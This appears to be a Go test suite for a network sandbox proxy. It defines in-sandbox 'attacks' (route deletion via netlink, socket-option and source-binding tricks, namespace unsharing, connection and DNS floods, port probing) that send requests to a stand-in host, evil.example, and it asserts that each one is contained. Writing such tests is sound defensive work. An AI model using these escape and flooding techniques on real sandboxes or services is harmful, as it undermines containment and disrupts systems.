package escape

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

func init() {
	// rewire tries to change what leads to the gate, and then to get to an
	// address by what has changed.
	attacks["rewire"] = func(args []string) {
		to := &unix.SockaddrInet4{Port: 80, Addr: [4]byte(net.ParseIP(args[0]).To4())}
		for _, o := range []struct {
			name                string
			level, option, with int
		}{
			{"nothing", unix.SOL_SOCKET, unix.SO_KEEPALIVE, 1},
			{"SO_MARK", unix.SOL_SOCKET, unix.SO_MARK, 1},
			{"SO_MARK of the gate's size", unix.SOL_SOCKET, unix.SO_MARK, 0x7fffffff},
			{"SO_PRIORITY", unix.SOL_SOCKET, unix.SO_PRIORITY, 6},
			{"SO_DONTROUTE", unix.SOL_SOCKET, unix.SO_DONTROUTE, 1},
			{"SO_BINDTOIFINDEX", unix.SOL_SOCKET, unix.SO_BINDTOIFINDEX, 1},
			{"IP_TRANSPARENT", unix.IPPROTO_IP, unix.IP_TRANSPARENT, 1},
			{"IP_FREEBIND", unix.IPPROTO_IP, unix.IP_FREEBIND, 1},
			{"IP_HDRINCL", unix.IPPROTO_IP, unix.IP_HDRINCL, 1},
			{"IP_OPTIONS", unix.IPPROTO_IP, unix.IP_OPTIONS, 0x01010101},
			{"IP_UNICAST_IF", unix.IPPROTO_IP, unix.IP_UNICAST_IF, 1 << 24},
			{"TCP_REPAIR", unix.IPPROTO_TCP, unix.TCP_REPAIR, 1},
			{"TCP_FASTOPEN_CONNECT", unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1},
		} {
			sendWith(o.name, to, func(fd int) error { return unix.SetsockoptInt(fd, o.level, o.option, o.with) })
		}
		for _, name := range []string{"lo", "cable", "eth0"} {
			sendWith("SO_BINDTODEVICE "+name, to, func(fd int) error { return unix.BindToDevice(fd, name) })
		}
		for _, from := range []string{"127.0.0.1", "203.0.113.2", "198.51.100.10", "198.18.0.1", "0.0.0.0"} {
			for _, port := range []int{0, 53, 80, 940, 941, 942, 4000} {
				source := &unix.SockaddrInet4{Port: port, Addr: [4]byte(net.ParseIP(from).To4())}
				sendWith(fmt.Sprintf("from %s:%d", from, port), to, func(fd int) error {
					_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
					_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEPORT, 1)
					return unix.Bind(fd, source)
				})
			}
		}
		for _, table := range []int{unix.RT_TABLE_LOCAL, unix.RT_TABLE_MAIN} {
			report("delete the route", deleteRoute(byte(table)))
		}
		for _, family := range []int{unix.NETLINK_NETFILTER, unix.NETLINK_SOCK_DIAG, unix.NETLINK_XFRM, unix.NETLINK_GENERIC} {
			fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, family)
			report(fmt.Sprintf("netlink %d", family), err)
			if err == nil {
				keep("netlink"+strconv.Itoa(family), nil)
				unix.Close(fd)
			}
		}
		for _, name := range []string{"ipv4/ip_forward", "ipv4/conf/all/route_localnet", "ipv4/ip_unprivileged_port_start", "netfilter/nf_conntrack_max"} {
			err := os.WriteFile("/proc/sys/net/"+name, []byte("1"), 0)
			report(name, err)
			if err == nil {
				keep(filepath.Base(name), nil)
			}
		}
		for _, flags := range []int{unix.CLONE_NEWNET, unix.CLONE_NEWUSER | unix.CLONE_NEWNET} {
			err := unix.Unshare(flags)
			report("another network", err)
			if err == nil {
				keep("unshare", nil)
			}
		}
		sendWith("afterwards", to, func(int) error { return nil })
	}
}

// sendWith sends a request on a socket that was prepared somehow.
func sendWith(name string, to unix.Sockaddr, prepare func(fd int) error) {
	for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM} {
		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			report(name, err)
			continue
		}
		report(name, prepare(fd))
		if err = unix.Connect(fd, to); err == unix.EINPROGRESS {
			_, _ = unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, 200)
		}
		_, err = unix.Write(fd, []byte(get("evil.example", "/rewired")))
		report(name+", send", err)
		unix.Close(fd)
	}
}

// deleteRoute takes away what makes every address lead to the gate.
func deleteRoute(table byte) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	const size = unix.SizeofNlMsghdr + unix.SizeofRtMsg
	b := make([]byte, size)
	b[0], b[4], b[6] = size, unix.RTM_DELROUTE, unix.NLM_F_REQUEST|unix.NLM_F_ACK
	copy(b[unix.SizeofNlMsghdr:], []byte{unix.AF_INET, 0, 0, 0, table, 0, unix.RT_SCOPE_NOWHERE, 0})
	if err := unix.Sendto(fd, b, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	n, _, err := unix.Recvfrom(fd, b[:cap(b)], 0)
	if err != nil || n < unix.SizeofNlMsghdr+4 {
		return err
	}
	if code := int32(b[16]) | int32(b[17])<<8 | int32(b[18])<<16 | int32(b[19])<<24; code != 0 {
		return unix.Errno(-code)
	}
	keep("route", nil)
	return nil
}

func TestWayToTheGateCannotBeChanged(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = oneDomain
		w.attack("rewire", evil4)
		w.expectNoLoot()
		w.expectSilence("rewired")
		w.expectGood()
		w.free("rewire", evil4)
		if got := w.heard(); !slices.Contains(got.sent, "tcp "+evil4+":80") || !slices.Contains(got.sent, "udp "+evil4+":80") || len(got.served) == 0 {
			t.Errorf("control: packets %q, requests %q", got.sent, got.served)
		}
		w.expectLoot("netlink"+strconv.Itoa(unix.NETLINK_NETFILTER), "unshare")
	})
}

func init() {
	// receive PORT takes connections on every address, and tells what came.
	attacks["receive"] = func(args []string) {
		got := make(chan string)
		for _, at := range [][2]string{{"tcp4", "0.0.0.0:" + args[0]}, {"tcp6", "[::]:" + args[0]}, {"unix", "@receive-" + args[0]}} {
			l, err := net.Listen(at[0], at[1])
			report("listen "+at[1], err)
			if err == nil {
				go func() {
					for {
						c, err := l.Accept()
						if err != nil {
							return
						}
						go func() {
							text, _ := io.ReadAll(c)
							got <- string(text)
						}()
					}
				}()
			}
		}
		go func() {
			if c, err := net.Dial("tcp", "127.0.0.1:"+args[0]); err == nil {
				_, _ = io.WriteString(c, "own")
				c.Close()
			}
			_, _ = io.Copy(io.Discard, os.Stdin)
			close(got)
		}()
		var all []string
		for text := range got {
			all = append(all, text)
			keep("received", []byte(strings.Join(all, ",")))
		}
	}
}

func TestSandboxesDoNotReachEachOthersGates(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		const port = "4321"
		first := newBox(t)
		first.policy = oneDomain
		c := first.command(first.program, "attack", "receive", port)
		in, err := c.StdinPipe()
		must(t, err)
		must(t, c.Start())
		first.await("received") // by itself, which is the control

		w.policy = `{"network": {"allowedDomains": ["other.example"]}}`
		var talks []talk
		for _, address := range append(slices.Clone(everywhere), "198.18.0.1", "fd62:6169:6c65:79::1") {
			for _, say := range []string{getByURL("good.example", "/x"), connectBy("good.example:80") + get("good.example", "/x"), get("good.example", "/x")} {
				for _, at := range []string{port, "940", "941", "942"} {
					talks = append(talks, talk{name: address + ", " + at, to: net.JoinHostPort(address, at), say: []string{say}})
				}
			}
			talks = append(talks, talk{name: "by the gate, " + address, say: []string{connectBy(net.JoinHostPort(address, port)), "x"}},
				talk{name: "by the gate to a gate, " + address, say: []string{connectBy(net.JoinHostPort(address, "940")), getByURL("good.example", "/x")}})
		}
		w.talk(talks...)
		w.attack("unix", "@receive-"+port)
		w.expectSilence("the other sandbox")
		in.Close()
		_ = c.Wait()
		if got := first.looted()["received"]; got != "own" {
			t.Errorf("the first sandbox received %q", got)
		}
		// The first one's gate does what it is for.
		if answer := first.talk(everyWay("good.example", "/x")...)[0]; !strings.Contains(answer, "served good.example/x") {
			t.Errorf("control: got %q", answer)
		}
	})
}

func init() {
	// swamp opens so many connections, says something on each, and keeps them
	// until stdin ends. Then it asks for a page until it gets it.
	attacks["swamp"] = func(args []string) {
		n, _ := strconv.Atoi(args[0])
		begin, _ := strconv.Unquote(args[2])
		more, _ := strconv.Unquote(args[3])
		var held []net.Conn
		for i := range n {
			c, err := net.DialTimeout("tcp", args[1], time.Second)
			if err != nil {
				report("dial "+strconv.Itoa(i), err)
				break
			}
			_ = c.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
			_, _ = c.Write([]byte(begin))
			for range 8 {
				if _, err := c.Write(bytes.Repeat([]byte(more), 64)); err != nil {
					break
				}
			}
			held = append(held, c)
		}
		keep("flooded", []byte(strconv.Itoa(len(held))))
		_, _ = io.Copy(io.Discard, os.Stdin)
		for _, c := range held {
			c.Close()
		}
		for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
			s := spoken{To: proxyAddress, Say: [][]byte{[]byte(getByURL("good.example", "/recovered"))}}
			s.carryOut()
			if bytes.Contains(s.Answer, []byte("served good.example/recovered")) {
				keep("recovered", nil)
				return
			}
		}
	}
}

// gates are the gates that run here, with the most memory each ever had, in kB.
func gates(t *testing.T) map[string]int {
	t.Helper()
	found := map[string]int{}
	list, err := filepath.Glob("/proc/[0-9]*/status")
	must(t, err)
	for _, file := range list {
		text, _ := os.ReadFile(file)
		if !bytes.Contains(text, []byte("Name:\tbailey-gate\n")) || !bytes.Contains(text, fmt.Appendf(nil, "PPid:\t%d\n", os.Getpid())) {
			continue
		}
		_, rest, _ := strings.Cut(string(text), "VmHWM:")
		if fields := strings.Fields(rest); len(fields) > 0 {
			found[file], _ = strconv.Atoi(fields[0])
		}
	}
	return found
}

// until waits for an attack to say something, however long that takes, and
// returns what it said before. The rest is read and thrown away.
func (b *box) until(out io.Reader, line string) (told string) {
	b.t.Helper()
	defer func() { go func() { _, _ = io.Copy(io.Discard, out) }() }()
	for s := bufio.NewScanner(out); s.Scan(); {
		if strings.HasPrefix(s.Text(), line) {
			return told
		}
		told += s.Text() + "\n"
	}
	b.t.Errorf("the attack never said %q: %s", line, told)
	return told
}

func TestGateSurvivesFloods(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = oneDomain
		other := newBox(t)
		other.policy = oneDomain
		for _, flood := range []struct{ name, connections, to, begin, more string }{
			{"silence", "10000", proxyAddress, "", ""},
			{"a head by the byte", "1000", proxyAddress, "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\nX: ", "y"},
			{"an endless head", "1000", proxyAddress, "GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n", "X-Header-Number: " + strings.Repeat("y", 200) + "\r\n"},
			{"an endless line", "1000", proxyAddress, "GET http://good.example/", strings.Repeat("y", 200)},
			{"half a hello", "1000", "good.example:443", "\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03", strings.Repeat("\x00", 100)},
			{"half of SOCKS", "1000", proxyAddress, "\x05\xff", "\x02"},
			{"half a query", "1000", "127.0.0.1:53", "\x07\xff", "\x00"},
		} {
			c := w.command(w.program, "attack", "swamp", flood.connections, flood.to, strconv.Quote(flood.begin), strconv.Quote(flood.more))
			in, err := c.StdinPipe()
			must(t, err)
			out, err := c.StdoutPipe()
			must(t, err)
			must(t, c.Start())
			told := w.until(out, "keep flooded")
			for gate, kilobytes := range gates(t) {
				t.Logf("%s: %s had %d kB", flood.name, gate, kilobytes)
				if kilobytes > 160<<10 {
					t.Errorf("%s: the gate had %d MB", flood.name, kilobytes>>10)
				}
			}
			if answer := other.talk(talk{name: "another sandbox", say: []string{getByURL("good.example", "/x")}})[0]; !strings.Contains(answer, "served good.example/x") {
				t.Errorf("%s: another sandbox got %q", flood.name, answer)
			}
			in.Close()
			_ = c.Wait()
			got := w.looted()
			if _, ok := got["recovered"]; !ok {
				t.Errorf("%s: the gate did not recover from %s connections\n%s", flood.name, got["flooded"], told)
			}
			t.Logf("%s: %s connections", flood.name, got["flooded"])
		}
	})
}

func init() {
	// names N asks for so many different names at once.
	attacks["names"] = func(args []string) {
		n, _ := strconv.Atoi(args[0])
		var wait sync.WaitGroup
		for part := range 16 {
			wait.Go(func() {
				c, err := net.Dial("udp", "127.0.0.1:53")
				if err != nil {
					report("dial", err)
					return
				}
				defer c.Close()
				for i := part; i < n; i += 16 {
					query, _ := question(fmt.Sprintf("n%d.%s.", i, args[1]), dnsmessage.TypeA)
					_, _ = c.Write(query)
					_ = c.SetReadDeadline(time.Now().Add(time.Second))
					_, _ = c.Read(make([]byte, 512))
				}
			})
		}
		wait.Wait()
		keep("asked", nil)
		_, _ = io.Copy(io.Discard, os.Stdin)
	}
}

func TestManyNamesCostLittle(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		w.policy = `{"network": {"allowedDomains": ["good.example", "*.many.example"]}}`
		w.answer(func(string, dnsmessage.Type) []dnsmessage.ResourceBody { return []dnsmessage.ResourceBody{ipv4(good4)} })
		for _, domain := range []string{"many.example", "evil.example"} {
			c := w.command(w.program, "attack", "names", "5000", domain)
			in, err := c.StdinPipe()
			must(t, err)
			out, err := c.StdoutPipe()
			must(t, err)
			must(t, c.Start())
			w.until(out, "keep asked")
			for gate, kilobytes := range gates(t) {
				t.Logf("%s: %s had %d kB", domain, gate, kilobytes)
				if kilobytes > 160<<10 {
					t.Errorf("%s: the gate had %d MB", domain, kilobytes>>10)
				}
			}
			in.Close()
			_ = c.Wait()
			w.looted()
			got := w.heard()
			t.Logf("%s: %d questions", domain, len(got.questions))
			if evil := slices.ContainsFunc(got.questions, func(q string) bool { return strings.Contains(q, "evil") }); evil || domain == "many.example" && len(got.questions) == 0 {
				t.Errorf("%s: %d questions, such as %q", domain, len(got.questions), got.questions[:min(len(got.questions), 5)])
			}
		}
	})
}

func init() {
	// doors PORT ... takes connections on ports, tells what came to which, and
	// tries to use the way in as a way out.
	attacks["doors"] = func(ports []string) {
		type said struct{ port, text string }
		got := make(chan said)
		for _, port := range ports {
			l, err := net.Listen("tcp", "127.0.0.1:"+port)
			report("listen "+port, err)
			if err != nil {
				continue
			}
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					go func() {
						text, _ := io.ReadAll(c)
						_, _ = io.WriteString(c, "from inside")
						c.Close()
						got <- said{port, string(text)}
					}()
				}
			}()
		}
		var held []net.Conn
		for _, to := range []string{"127.0.0.1:943", "[::1]:943", "127.0.0.1:7001", machine4 + ":7001", nameserver + ":7001", machine4 + ":943"} {
			for range 100 { // and kept, to be in the way
				c, err := net.DialTimeout("tcp", to, time.Second)
				if err != nil {
					report("dial "+to, err)
					break
				}
				_, _ = io.WriteString(c, getByURL("evil.example", "/x"))
				held = append(held, c)
			}
		}
		go func() {
			_, _ = io.Copy(io.Discard, os.Stdin)
			for _, c := range held {
				_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
				if answer, _ := io.ReadAll(c); len(answer) > 0 && !bytes.HasPrefix(answer, []byte("HTTP/1.1 403 ")) {
					keep("answer", answer)
				}
			}
			close(got)
		}()
		keep("tried", nil)
		for s := range got {
			keep("at"+s.port, []byte(s.text))
		}
	}
}

// listening are the addresses at which the machine takes connections.
func listening(t *testing.T) map[string]bool {
	t.Helper()
	found := map[string]bool{}
	for _, file := range []string{"/proc/self/net/tcp", "/proc/self/net/tcp6"} {
		text, err := os.ReadFile(file)
		must(t, err)
		for line := range strings.Lines(string(text)) {
			if f := strings.Fields(line); len(f) > 3 && f[3] == "0A" {
				found[f[1]] = true
			}
		}
	}
	return found
}

func TestExposedPortIsOnePort(t *testing.T) {
	inWorld(t, func(t *testing.T, w *world) {
		for _, more := range []string{"", `, "allowedDomains": ["good.example"]`} {
			w.policy = `{"network": {"exposePorts": ["7001:4001"]` + more + `}}`
			before := listening(t)
			c := w.command(w.program, "attack", "doors", "4001", "4002", "7002")
			in, err := c.StdinPipe()
			must(t, err)
			must(t, c.Start())
			w.await("tried")
			w.expectSilence("the way in")
			for address := range listening(t) {
				if !before[address] && address != "0100007F:1B59" { // 127.0.0.1:7001
					t.Errorf("the machine takes connections at %s", address)
				}
			}
			reach := func(address string) bool {
				c, err := net.DialTimeout("tcp", address, 5*time.Second)
				if err != nil {
					return false
				}
				defer c.Close()
				_, _ = io.WriteString(c, "to "+address)
				_ = c.(*net.TCPConn).CloseWrite()
				answer, _ := io.ReadAll(c)
				return string(answer) == "from inside"
			}
			for _, port := range []string{"4001", "4002", "7002", "7000", "940", "941", "942", "943"} {
				if reach("127.0.0.1:"+port) || reach("[::1]:"+port) {
					t.Errorf("port %s is reached", port)
				}
			}
			w.there(func() {
				if reach(machine4 + ":7001") {
					t.Error("the port is reached from elsewhere")
				}
			})
			if !reach("127.0.0.1:7001") {
				t.Error("control: the port is not reached")
			}
			in.Close()
			_ = c.Wait()
			got := w.looted()
			if got["at4001"] != "to 127.0.0.1:7001" || got["at4002"]+got["at7002"]+got["answer"] != "" {
				t.Errorf("inside: got %q", got)
			}
			if reach("127.0.0.1:7001") {
				t.Error("the port outlives the sandbox")
			}
			w.heard()
		}
	})
}
